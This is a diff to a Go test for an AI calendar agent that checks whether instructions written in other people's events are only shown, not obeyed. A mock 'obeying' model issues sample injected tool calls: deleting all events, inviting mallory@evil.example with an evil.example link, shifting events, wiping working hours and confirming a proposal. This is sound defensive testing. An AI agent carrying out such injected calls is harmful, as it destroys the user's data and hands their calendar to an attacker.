@@ -70,6 +70,8 @@ func foreignEvents(t *testing.T) (events []meet.Occurrence, words []string) {
 type obeying struct {
 	stages.Model
 	obeys bool
+	// wanted are the calls that the texts ask for.
+	wanted []llm.Call
 
 	mu    sync.Mutex
 	asked []llm.Request
@@ -83,15 +85,7 @@ func (o *obeying) Complete(ctx context.Context, req llm.Request, onDelta func(st
 	if req.Stage != llm.Plan || !o.obeys {
 		return o.Model.Complete(ctx, req, onDelta)
 	}
-	wanted := []llm.Call{
-		{Name: "calendar_deleteEvents", Arguments: `{"selection":{}}`},
-		{Name: "calendar_updateEvents",
-			Arguments: `{"selection":{},"set":{"invite":["mallory@evil.example"],"description":"See https://evil.example/x"}}`},
-		{Name: "calendar_moveEvents", Arguments: `{"selection":{},"to":{"byDays":7}}`},
-		{Name: "preference_updatePreferences", Arguments: `{"key":"working_hours","value":"{}"}`},
-		{Name: "system_confirmProposal", Arguments: `{"id":"ch_1","digest":"sha256:1"}`},
-	}
-	call := wanted[n%len(wanted)]
+	call := o.wanted[n%len(o.wanted)]
 	if one, known := toolbox().Tool(call.Name); known {
 		whole, err := stagestest.Whole(one.Offer(), call.Arguments)
 		if err != nil {
@@ -111,7 +105,15 @@ func TestWhatOthersWroteIsOnlyShown(t *testing.T) {
 			t.Parallel()
 			events, words := foreignEvents(t)
 			rules := offline.New(offline.Options{})
-			model := &obeying{Model: rules, obeys: obeys}
+			model := &obeying{Model: rules, obeys: obeys, wanted: []llm.Call{
+				{Name: "calendar_deleteEvents", Arguments: `{"selection":{}}`},
+				{Name: "calendar_updateEvents",
+					Arguments: `{"selection":{},"set":{"invite":["mallory@evil.example"],` +
+						`"description":"See https://evil.example/x"}}`},
+				{Name: "calendar_moveEvents", Arguments: `{"selection":{},"to":{"byDays":7}}`},
+				{Name: "preference_updatePreferences", Arguments: `{"key":"working_hours","value":"{}"}`},
+				{Name: "system_confirmProposal", Arguments: `{"id":"ch_1","digest":"sha256:1"}`},
+			}}
 			var reader stages.Model
 			if obeys {
 				reader = rules
